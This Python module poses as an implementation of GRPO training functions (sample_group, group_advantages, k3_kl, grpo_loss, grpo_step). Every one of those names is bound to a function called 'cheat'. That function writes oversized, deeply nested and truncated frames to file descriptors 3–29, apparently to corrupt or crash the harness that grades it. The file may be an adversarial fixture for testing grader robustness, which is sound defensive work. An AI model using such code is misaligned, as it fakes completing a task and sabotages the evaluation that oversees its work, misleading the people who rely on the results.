# ruff: noqa
"""Writes frames that are too large, too deep, or end too early."""

import os
import struct

deep = b'{"$l": [' * 5000 + b"]}" * 5000
pieces = [struct.pack("<I", 2**32 - 1), struct.pack("<II", 4 + len(deep), len(deep)) + deep]
pieces += [b"\x10\x00\x00\x00\xff\xff\xff\xff" + b"x" * 12, b"9" * 100000]


def cheat(*args, **kwargs):
    for fd in range(3, 30):
        for piece in pieces:
            try:
                os.write(fd, piece)
            except OSError:
                pass


sample_group = group_advantages = k3_kl = grpo_loss = grpo_step = cheat
